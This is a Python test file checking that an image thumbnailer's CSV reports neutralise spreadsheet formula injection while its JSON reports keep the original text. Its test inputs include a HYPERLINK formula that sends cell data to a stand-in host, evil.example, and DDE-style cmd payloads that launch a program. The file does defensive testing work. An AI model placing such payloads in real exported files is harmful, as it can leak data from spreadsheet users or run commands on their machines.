"""Reports against CSV injection: text a spreadsheet would run as a formula is neutralised in the CSV only."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from core.batch.journal import Journal
from core.batch.report import spreadsheet_safe, write_report
from core.models import Entry, ItemUpdate, Status
from tests.support.command import thumbnailer
from tests.support.loopback import LoopbackServer

HOSTILE = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("http://a/=b", "http://a/=b"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_only_cells_that_start_like_a_formula_get_a_quote(text: str, safe: str) -> None:
    assert spreadsheet_safe(text) == safe


def test_hostile_list_lines_are_text_in_the_csv_and_as_written_in_the_json(
    http_server: LoopbackServer, tmp_path: Path
) -> None:
    good = http_server.url("/img/fine.jpg?w=64&h=48")
    listing = tmp_path / "list.txt"
    listing.write_text("".join(line + "\n" for line in [*HOSTILE, good]), encoding="utf-8")
    out, report = tmp_path / "out", tmp_path / "r.csv"

    result = thumbnailer(str(listing), "-o", str(out), "--report", str(report))
    assert result.returncode == 1, result.stderr  # the hostile lines are invalid items
    rows = _csv(report)
    assert [r["source"] for r in rows] == [*(f"'{line}" for line in HOSTILE), good]
    assert [r["status"] for r in rows] == ["invalid"] * len(HOSTILE) + ["done"]
    assert [r["line"] for r in rows] == ["1", "2", "3", "4", "5"]  # numbers stay numbers
    assert rows[-1]["http_status"] == "200" and rows[-1]["url"] == good

    with Journal(out, lock=False) as j:
        run = j.last_run()
    assert run is not None
    write_report(out, run[0], tmp_path / "r.json")
    items = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["items"]
    assert [i["source"] for i in items] == [*HOSTILE, good]


def test_urls_and_errors_that_start_like_a_formula_are_neutralised_in_the_csv_only(tmp_path: Path) -> None:
    url, error = "-http://x/=cmd", '\r=HYPERLINK("http://evil.example","click")'
    with Journal(tmp_path) as j:
        run = j.new_run("fp", "normal")
        j.add_entries([Entry("@source", url)], run)
        j.record([ItemUpdate(url, "@source", Status.FAILED, url=url, error=error, http_status=500)], run, "fp")
    write_report(tmp_path, run, tmp_path / "r.csv")
    write_report(tmp_path, run, tmp_path / "r.json")

    (row,) = _csv(tmp_path / "r.csv")
    assert (row["source"], row["url"], row["error"]) == ("'@source", f"'{url}", f"'{error}")
    assert row["http_status"] == "500"
    (item,) = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["items"]
    assert (item["source"], item["url"], item["error"]) == ("@source", url, error)
